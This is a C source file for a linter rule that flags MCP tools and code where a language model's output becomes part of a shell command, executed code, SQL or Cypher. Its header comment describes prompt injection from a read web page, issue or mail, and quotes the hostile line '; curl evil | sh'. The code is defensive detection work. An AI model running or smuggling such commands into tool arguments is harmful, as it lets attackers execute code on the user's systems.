/*
 * A model's text becomes a part of a shell command, of code, of SQL or of Cypher.
 *
 * Whatever a model sends may come from a web page, an issue or a mail it has read. Put into
 * a command's text, `; curl evil | sh` is one more command: most published holes of MCP servers are this one.
 * Hand the words over as a list without a shell (execFile, subprocess.run([...])), quote them
 * (shlex.quote), bind them as parameters, or let only known values through.
 *
 * A tool whose argument is the command or the code itself, and says so by its name or the argument's (run_command, `code`), does
 * what it is there for and is not reported; who runs such a tool needs a sandbox. Where it looks for forbidden words
 * first, somebody wanted a limit that a list of words is not: a warning; of a whole SQL text, where only its beginning is
 * looked at, or some words are, and a second statement may follow. A model's answer that is run as it stands, without a
 * tool that says so, is a warning, too; silent where a person is asked before.
 *
 *     import subprocess                                             setup
 *     from mcp.server.fastmcp import FastMCP                        setup
 *     mcp = FastMCP("git")                                          setup
 *     @mcp.tool()
 *     def log(path: str): return subprocess.check_output(f"git -C {path} log", shell=True)  # bad
 *     @mcp.tool()
 *     def log(path: str): return subprocess.check_output(["git", "-C", path, "log"])  # good
 *     import { execSync } from "child_process";                     // setup
 *     import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";  // setup
 *     import { z } from "zod";                                      // setup
 *     const server = new McpServer({ name: "git", version: "1" });  // setup
 *     server.tool("log", { dir: z.string() }, async ({ dir }) => execSync(`git -C ${dir} log`));  // bad
 *     server.tool("log", { n: z.number() }, async ({ n }) => execSync(`git log -n ${n}`));  // good
 */
#include "rule.h"

static const char *const needles[] = {
	/* "exec", "command", "shell": of execSync, runCommand, create_subprocess_shell, and of helpers that are called after what they hide */
	"exec", "Exec", "ommand", "hell", "cmd", "Cmd", "popen", "Popen", "runIn", "spawn",
	"evaluate", "new_code_cell", "vm2", "SELECT ", "INSERT ", "UPDATE ", "DELETE ", "DROP ",
	"select ", "update ", "delete ", "insert ", "PRAGMA ", "DESCRIBE ", "SHOW ", "CREATE ",
	"ALTER ", "TRUNCATE ", "MATCH (", "query(", "WITH ", "EXPLAIN ", "REPLACE ", "MERGE ",
	/* tags: `$` alone is too short to look for */
	"zx'", "zx\"", "zx/", "env zx", "await $", "return $", "dax",
	/* what is handed to another file that runs it: ["bash", "-lc", text] */
	"-c\"", "-c'", "lc\"", "lc'", "/c\"", "/c'", "FastMCP", "McpServer", "call_tool",
	"CallToolRequest", "registerTool", "@tool", "BaseTool", "StructuredTool", "createTool",
	"function_tool", "tool_calls", "tool_use",
	/* an answer that another file runs */
	"openai", "OpenAI", "anthropic", "Anthropic", "genai", "ollama", "litellm",
	"generateText", "langchain", "llm", "LLM", NULL
};
static const char *const needle_facts[] = { "spawn=shell", "spawn=argv", "spawn=program",
					    "sink=sql",    "sink=code",  NULL };
static const char *const also_needles[] = {
	"tool", "Tool", "openai", "anthropic", "mcp", "generate", "llm", "completion", "chat",
	"invoke", "MCP", "LLM", "dspy", "swarm", "/api/generate",
	/* a handler need not know that it is one: another file may give it to the server */
	"shell=True", "os.system", "popen", "create_subprocess_shell", "execSync",
	"child_process", "promisify(exec", "run_command", "runCommand", "execute_command",
	"executeCommand", "execute(", "query(", "eval(", "run(`", "exec(`", "all(`", "raw(`",
	"prepare(`", "neo4j", "inputSchema", "input_schema", "text_generation",
	"textGeneration",
	/* what a subclass in another file answers */
	"abstractmethod", "NotImplementedError", "abstract ", NULL
};
static const char *const tags[] = { "security", "agents", NULL };

static const char *place(const struct injection *injection)
{
	static const char *const places[] = { "a shell command", "code that is run", "SQL" };
	return injection->cypher ? "Cypher" : places[injection->into];
}

static const char *cure(const struct injection *injection)
{
	static const char *const cures[] = {
		"hand the words over as a list, without a shell (execFile)",
		"parse it, look it up among what is allowed, or run it in a sandbox",
		("bind it as a parameter, look a table's, column's or label's name up "
		 "among the known"),
	};
	bool python = facts_of(injection->text)->source->lang == LANG_PYTHON;
	if (injection->statement)
		return "parse it and let only what you mean through, as a user who may only "
		       "read";
	if (python && injection->into == RUN_SHELL)
		return "hand the words over as a list without a shell, or shlex.quote() them";
	return cures[injection->into];
}

static void relate(struct finding *finding, const struct injection *injection,
		   const char *source)
{
	finding_related(finding, injection->from, "%s", source);
	if (injection->text != injection->sink)
		finding_related(finding, injection->sink, "run here");
}

static void report_answer(struct lint *lint, const struct injection *injection)
{
	struct finding *finding =
		lint_report(lint, injection->text, "the model's answer becomes %s%s",
			    injection->whole ? "" : "a part of ", place(injection));
	finding_severity(finding, SEV_WARNING);
	finding_why(finding, "what the model has read decides what runs here; %s",
		    cure(injection));
	relate(finding, injection, "the model answers here");
}

static const char *around_test(const struct injection *injection)
{
	if (injection->some_words)
		return "what else changes data is not looked at, nor a second statement "
		       "behind `;`; parse it, or run it as a user who may only read";
	if (injection->into == RUN_SQL)
		return "a second statement behind `;` is not looked at, nor what a WITH or a "
		       "function changes; parse it, or run it as a user who may only read";
	if (injection->split)
		return "an option before it (`--context prod delete ...`) or another verb "
		       "leads "
		       "around it; let only known verbs through, or give it credentials that "
		       "cannot destroy";
	return "the same is spelled in a thousand ways (quotes, variables, `;`, another "
	       "program); let only known commands through, or run it in a sandbox";
}

/* A tool that is there to run commands, and looks for some it should not. */
static void report_forbidden(struct lint *lint, const struct injection *injection)
{
	struct finding *finding = lint_report(
		lint, injection->text,
		"%.*s, which a model fills in, is run as %s after a test %s",
		STR_ARG(injection->what),
		injection->split              ? "a program's arguments"
		: injection->into == RUN_CODE ? "code"
					      : place(injection),
		injection->into == RUN_SQL && !injection->some_words ? "of its beginning alone"
								     : "for some words alone");
	finding_severity(finding, SEV_WARNING);
	finding_why(finding, "%s", around_test(injection));
	relate(finding, injection, "comes from the model");
}

static void report_argument(struct lint *lint, const struct injection *injection)
{
	struct finding *finding =
		lint_report(lint, injection->text, "%.*s, which a model fills in, becomes %s%s",
			    STR_ARG(injection->what.n ? injection->what : STR("an argument")),
			    injection->whole ? "" : "a part of ", place(injection));
	finding_why(finding,
		    "what the model has read may put a command of its own in there; %s",
		    cure(injection));
	if (injection->presumed) /* whoever calls it is not in sight */
		finding_severity(finding, SEV_WARNING);
	relate(finding, injection, "comes from the model");
	finding_is_flow(finding);
}

/* One text is told of once, whatever else a model puts into it. */
struct told {
	VEC(const struct node *) texts;
};

static void tell(struct lint *lint, struct told *told, const struct injection *injection)
{
	if (facts_of(injection->text) != lint_facts(lint))
		return; /* that file tells of it */
	for (size_t i = 0; i < told->texts.n; i++) {
		if (told->texts.v[i] == injection->text)
			return;
	}
	vec_push(lint_arena(lint), &told->texts, injection->text);
	if (injection->forbidden_only)
		report_forbidden(lint, injection);
	else if (injection->what.n)
		report_argument(lint, injection);
	else
		report_answer(lint, injection);
}

static void on_file(struct lint *lint, const struct facts *facts)
{
	struct told told = { { NULL, 0, 0 } };
	struct injection found[INJECTIONS_MAX];
	struct injector *injector = injector_new(facts, lint_arena(lint));
	for (size_t i = 0; i < facts->calls.n; i++) {
		size_t n = injections_of(injector, facts->calls.v[i], found);
		for (size_t j = 0; j < n; j++)
			tell(lint, &told, &found[j]);
	}
}

const struct rule rule_model_output_to_shell = {
	.code = "SP204",
	.severity = SEV_ERROR,
	.languages = FOR_PYTHON | FOR_JS,
	.precision = "high",
	.security = "8.8",
	.tags = tags,
	.needles = needles,
	.needle_facts = needle_facts,
	.also_needles = also_needles,
	.on_file = on_file,
};
